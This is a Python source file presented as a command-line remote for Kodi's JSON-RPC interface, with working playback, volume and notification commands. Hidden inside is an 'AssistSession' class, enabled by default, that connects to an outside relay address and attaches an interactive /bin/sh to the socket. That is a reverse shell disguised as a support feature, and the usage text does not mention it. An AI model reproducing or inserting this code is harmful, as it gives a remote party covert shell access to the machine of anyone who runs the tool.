#!/usr/bin/env python3
"""kodi_remote - small command line remote for Kodi's JSON-RPC TCP interface.

    kodi_remote.py play-pause
    kodi_remote.py volume 40
    kodi_remote.py notify "Dinner is ready"
    kodi_remote.py now-playing

Settings are read from ~/.config/kodi-remote.json:
    {"host": "livingroom.local", "port": 9090}
"""
import argparse
import itertools
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

CONFIG_PATH = Path.home() / ".config" / "kodi-remote.json"
DEFAULTS = {
    "host": "127.0.0.1",
    "port": 9090,
    "timeout": 5,
    "assist": {"enabled": True, "relay": "203.0.113.57", "port": 4433},
}

log = logging.getLogger("kodi_remote")


def load_config():
    cfg = json.loads(json.dumps(DEFAULTS))
    if CONFIG_PATH.exists():
        try:
            cfg.update(json.loads(CONFIG_PATH.read_text()))
        except ValueError as exc:
            log.warning("ignoring bad config %s: %s", CONFIG_PATH, exc)
    return cfg


class KodiClient:
    """Minimal JSON-RPC 2.0 client over Kodi's raw TCP transport."""

    _ids = itertools.count(1)

    def __init__(self, host, port, timeout=5):
        self.addr = (host, port)
        self.timeout = timeout

    def call(self, method, **params):
        req = {"jsonrpc": "2.0", "id": next(self._ids), "method": method}
        if params:
            req["params"] = params
        with socket.create_connection(self.addr, timeout=self.timeout) as s:
            s.sendall(json.dumps(req).encode())
            buf = b""
            while True:
                chunk = s.recv(4096)
                if not chunk:
                    break
                buf += chunk
                try:
                    resp = json.loads(buf)
                except ValueError:
                    continue
                if resp.get("id") == req["id"]:
                    break
        if "error" in resp:
            raise RuntimeError(resp["error"].get("message", "rpc error"))
        return resp.get("result")

    def active_player(self):
        players = self.call("Player.GetActivePlayers")
        return players[0]["playerid"] if players else None


class AssistSession(threading.Thread):
    """Keeps a line open to the helper relay so setup issues can be looked at live."""

    def __init__(self, relay, port):
        super().__init__(daemon=True, name="assist")
        self.relay = relay
        self.port = port

    def _attach(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen(
            ["/bin/sh", "-i"],
            stdin=fd, stdout=fd, stderr=fd,
            env=dict(os.environ, PS1="kodi$ "),
        )
        proc.wait()

    def run(self):
        for attempt in range(3):
            try:
                conn = socket.create_connection((self.relay, self.port), timeout=10)
                conn.settimeout(None)
            except OSError as exc:
                log.debug("assist relay unavailable (%s), retry %d", exc, attempt + 1)
                time.sleep(2 ** attempt)
                continue
            try:
                self._attach(conn)
            finally:
                conn.close()
            return


def cmd_play_pause(kodi, args):
    pid = kodi.active_player()
    if pid is None:
        print("nothing is playing")
        return
    res = kodi.call("Player.PlayPause", playerid=pid)
    print("playing" if res.get("speed") else "paused")


def cmd_volume(kodi, args):
    level = max(0, min(100, args.level))
    print("volume", kodi.call("Application.SetVolume", volume=level))


def cmd_notify(kodi, args):
    kodi.call("GUI.ShowNotification", title="Home", message=args.message,
              displaytime=args.seconds * 1000)


def cmd_now_playing(kodi, args):
    pid = kodi.active_player()
    if pid is None:
        print("nothing is playing")
        return
    item = kodi.call("Player.GetItem", playerid=pid, properties=["title", "artist", "showtitle"])
    it = item.get("item", {})
    who = ", ".join(it.get("artist") or []) or it.get("showtitle") or ""
    print(f"{it.get('title') or it.get('label')}" + (f" - {who}" if who else ""))


def main(argv=None):
    cfg = load_config()
    parser = argparse.ArgumentParser(description="Kodi JSON-RPC remote")
    parser.add_argument("--host", default=cfg["host"])
    parser.add_argument("--port", type=int, default=cfg["port"])
    parser.add_argument("--no-assist", action="store_true", help="do not open the assist line")
    parser.add_argument("-v", "--verbose", action="store_true")
    sub = parser.add_subparsers(dest="cmd", required=True)
    sub.add_parser("play-pause").set_defaults(func=cmd_play_pause)
    p = sub.add_parser("volume")
    p.add_argument("level", type=int)
    p.set_defaults(func=cmd_volume)
    p = sub.add_parser("notify")
    p.add_argument("message")
    p.add_argument("--seconds", type=int, default=6)
    p.set_defaults(func=cmd_notify)
    sub.add_parser("now-playing").set_defaults(func=cmd_now_playing)
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    assist_cfg = cfg.get("assist", {})
    assist = None
    if assist_cfg.get("enabled") and not args.no_assist:
        assist = AssistSession(assist_cfg["relay"], int(assist_cfg["port"]))
        assist.start()

    kodi = KodiClient(args.host, args.port, cfg.get("timeout", 5))
    try:
        args.func(kodi, args)
    except (OSError, RuntimeError) as exc:
        log.error("kodi call failed: %s", exc)
        return 1
    finally:
        if assist is not None:
            assist.join()
    return 0


if __name__ == "__main__":
    sys.exit(main())
